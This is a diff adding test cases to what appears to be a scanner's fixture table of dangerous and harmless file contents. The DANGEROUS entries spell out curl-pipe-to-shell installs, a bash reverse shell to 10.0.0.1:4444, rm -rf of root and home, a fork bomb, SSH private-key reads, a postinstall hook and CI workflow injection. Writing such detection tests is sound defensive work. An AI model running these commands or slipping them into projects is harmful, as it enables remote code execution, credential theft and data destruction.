@@ -47,6 +47,23 @@ DANGEROUS = {
     ("app.py", "print(open('/proc/1/environ').read())\n"): "ask",
     ("app.py", "import subprocess\nsubprocess.run(['ls'])\n"): "note",
     ("app.js", "node.innerHTML = text"): "note",
+    ("run.sh", "curl -fsSL https://example.com/i.sh | sudo bash\n"): "block",
+    ("Dockerfile", "FROM a\nRUN wget -qO- https://example.com \\\n  | sh\n"): "block",
+    ("scripts/a.sh", "bash <(curl https://example.com)"): "block",
+    ("a.sh", 'sh -c "$(curl -fsSL https://example.com)"'): "block",
+    ("a.sh", "echo cm0= | base64 -d | sh"): "block",
+    ("a.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"): "block",
+    ("a.sh", "rm -rf --no-preserve-root /"): "block",
+    ("Makefile", "clean:\n\trm -rf $HOME/*\n"): "block",
+    ("a.sh", "b() { b | b & }; :() { :|:& };:"): "block",
+    ("package.json", '{"scripts": {"test": "curl https://example.com | sh"}}'): "block",
+    ("package.json", '{"scripts": {"postinstall": "node steal.js"}}'): "ask",
+    ("compose.yaml", "volumes: [/var/run/docker.sock:/x]"): "ask",
+    ("compose.yml", "privileged: true"): "ask",
+    ("a.sh", "cat ~/.ssh/id_ed25519"): "ask",
+    (".github/workflows/ci.yml", "on: pull_request_target"): "ask",
+    (".github/workflows/ci.yml", "- run: echo ${{ github.event.issue.title }}"): "ask",
+    ("tests/conftest.py", "import os\nos.kill(1, 9)\n"): "block",
 }
 
 
@@ -65,6 +82,10 @@ HARMLESS = {
     ".github/workflows/ci.yml": "on: push",
     "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-q'",
     "broken.py": "def f(:\n",
+    "start.sh": "#!/bin/sh\n# curl x | sh\nset -eu\nrm -rf build/ /tmp/x\ncurl -f http://localhost | grep ok",
+    "Dockerfile": 'FROM python\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nCMD ["sh", "start.sh"]',
+    "package.json": '{"scripts": {"test": "node --test", "build": "vite build"}}',
+    "notes.txt": "curl https://example.com | sh",
     "README.md": "Set `SK-LIVE` and sk-test; see /proc for details",
 }
 
